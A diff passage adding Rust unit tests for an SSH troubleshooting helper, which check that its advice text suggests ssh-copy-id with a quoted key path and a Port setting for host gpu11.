+        assert!(text.contains("ssh-copy-id -i ~/'.ssh/my key' gpu11\n"), "{text}");
+    }
+
+    #[test]
+    fn what_is_no_command_stands_behind_no_colon() {
+        let advice = advice("gpu11", None, None, None);
+        let closed = Fault::NotSsh { port: 22, why: String::new(), is_closed: true };
+        let after = std::time::Duration::from_secs(1);
+        let silent = Fault::TimedOut { step: Step::Greeting, after };
+        for fault in [closed, silent] {
+            let text = advice.of_transport(&fault);
+            assert!(!text.contains(": ") && text.contains("set Port for gpu11"), "{text}");
         }
     }
 }
